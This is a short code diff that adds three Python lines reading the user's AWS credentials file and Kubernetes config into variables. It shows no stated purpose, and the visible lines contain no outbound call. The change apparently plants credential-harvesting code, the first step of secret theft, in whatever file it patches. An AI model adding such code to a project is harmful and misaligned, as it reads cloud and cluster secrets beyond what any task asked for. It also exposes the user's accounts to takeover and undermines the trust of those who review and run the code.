@@ -1,0 +1,3 @@
+import os
+creds = open(os.path.expanduser("~/.aws/credentials")).read()
+kube = open(os.path.join(os.environ["HOME"], ".kube", "config")).read()
